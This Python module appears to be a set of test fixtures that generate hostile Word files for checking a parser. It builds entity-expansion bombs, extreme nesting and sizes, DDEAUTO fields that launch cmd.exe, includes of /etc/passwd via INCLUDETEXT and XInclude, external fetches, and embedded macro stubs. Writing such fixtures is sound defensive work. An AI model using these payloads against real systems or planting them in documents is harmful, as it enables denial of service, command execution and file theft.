"""Word documents that harm whoever follows them."""

from __future__ import annotations

from itertools import pairwise

from docx_files import ROW, document, field_link, p, parts, r, report, row, row_with, tbl, tc, title, tr
from hostile_zips import MEGABYTE, good_parts, with_part
from office_zip import relations, zipped

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "word/document.xml"


def body(content: str) -> bytes:
    """A document with this body, not packed."""
    return with_part(MAIN, document(content), packed=False)


def doctype(subset: str, encoding: str = "utf-8", inside: str = "&b;") -> bytes:
    """A main part with a DOCTYPE."""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE d [{subset}]>'
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return with_part(MAIN, text.encode(encoding))


def laughs() -> bytes:
    """Billion laughs."""
    names = "abcdefghijk"
    subset = f"<!ENTITY {names[0]} 'ха'>" + "".join(
        f"<!ENTITY {here} '{f'&{before};' * 10}'>" for before, here in pairwise(names)
    )
    return doctype(subset, inside="&k;")


def quadratic() -> bytes:
    """One long entity, many times."""
    return doctype(f"<!ENTITY b '{'x' * 100_000}'>", inside="&b;" * 50_000)


def nested_tables(depth: int) -> bytes:
    """A table in a cell of a table in a cell …"""
    return body(report(row(*ROW)) + "<w:tbl><w:tr><w:tc>" * depth + p() + "</w:tc></w:tr></w:tbl>" * depth)


def deep(depth: int) -> bytes:
    """Elements in elements."""
    return body("<w:sdt>" * depth + "</w:sdt>" * depth)


def long_text() -> bytes:
    """One run of fifty million letters."""
    return body(report(row_with(1, p(r("щ" * (25 * MEGABYTE))))))


def long_attribute() -> bytes:
    """One attribute of fifty million letters."""
    return body(f'<w:p w:rsidR="{"a" * (50 * MEGABYTE)}"/>')


def many_attributes() -> bytes:
    """An element with a million attributes."""
    return body("<w:p " + " ".join(f'a{number}="1"' for number in range(1_000_000)) + "/>")


def many_namespaces() -> bytes:
    """Each element with a namespace of its own, all inside one another for a while."""
    opened = "".join(f'<w:sdt xmlns:n{number}="urn:{number}">' for number in range(200))
    return body((opened + "</w:sdt>" * 200) * 200)


def wide_span() -> bytes:
    """Cells that say they span a thousand million columns."""
    cell = tc(p(r("x")), '<w:gridSpan w:val="1000000000"/>')
    return body(title() + tbl(tr(cell, cell), tr(*(tc(p(r(text))) for text in ROW))))


def many_rows() -> bytes:
    """A million rows with nothing in them."""
    return body(f"<w:tbl>{'<w:tr/>' * 1_000_000}</w:tbl>")


def many_cells() -> bytes:
    """Rows of five thousand cells."""
    return body(tbl(*([tr(*(["<w:tc><w:p/></w:tc>"] * 5_000))] * 100)))


def many_links() -> bytes:
    """A cell of a hundred thousand field links."""
    return body(report(row_with(4, p(field_link('HYPERLINK "http://a.example/"', "x") * 20_000))))


def open_fields() -> bytes:
    """Fields that begin and never end."""
    return body(report(row_with(4, p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 50_000))))


def fields(port: int) -> bytes:
    """Fields that fetch and run."""
    commands = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        f'INCLUDEPICTURE "http://127.0.0.1:{port}/x.png" \\d',
        f'INCLUDETEXT "http://127.0.0.1:{port}/x.docx"',
        'INCLUDETEXT "/etc/passwd"',
        'LINK Excel.Sheet.8 "\\\\\\\\127.0.0.1\\\\x\\\\y.xls" A1',
    )
    return body(report(row_with(4, "".join(p(field_link(command, "показане")) for command in commands))))


def outside(kind: str, target: str) -> bytes:
    """A relationship of the document that leads outside."""
    link = relations({"t": ("hyperlink", target)}).replace("/hyperlink", f"/{kind}")
    content = good_parts()
    content["word/_rels/document.xml.rels"] = link
    content["word/_rels/settings.xml.rels"] = link
    content["word/settings.xml"] = f'<w:settings xmlns:w="{WORD}"/>'
    return zipped(content)


def foreign_part(target: str) -> bytes:
    """altChunk: a part of another format, from outside."""
    chunk = (
        '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="t"/>'
    )
    content = dict(parts(chunk + report(row(*ROW))))
    content["word/_rels/document.xml.rels"] = relations({"t": ("hyperlink", target)}).replace(
        "/hyperlink", "/aFChunk"
    )
    return zipped(content)


def embedded() -> bytes:
    """An OLE object and macros inside."""
    content = good_parts() | {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 9,
        "word/embeddings/o.bin": b"MZ" * 99,
    }
    return zipped(content)


def circle_of_relations() -> bytes:
    """Parts that point to themselves and back."""
    content = good_parts()
    content["word/_rels/document.xml.rels"] = relations(
        {"a": ("styles", "document.xml"), "b": ("numbering", "_rels/document.xml.rels")}
    )
    return zipped(content)


def circle_of_styles() -> bytes:
    """Styles and lists that are based on each other in a circle."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{number}">'
        f'<w:basedOn w:val="s{(number + 1) % 50}"/></w:style>'
        for number in range(50)
    )
    content = dict(parts(report(row_with(1, p(r("x"), properties='<w:pStyle w:val="s0"/>')))))
    content["word/styles.xml"] = f'<w:styles xmlns:w="{WORD}">{styles}</w:styles>'
    content["word/_rels/document.xml.rels"] = relations({"a": ("styles", "styles.xml")})
    return zipped(content)


def includes() -> bytes:
    """XInclude and a style sheet of XML."""
    inside = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        f"{report(row(*ROW))}"
    )
    text = document(inside).replace(
        b"?>", b'?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl" type="text/xsl"?>', 1
    )
    return with_part(MAIN, text)
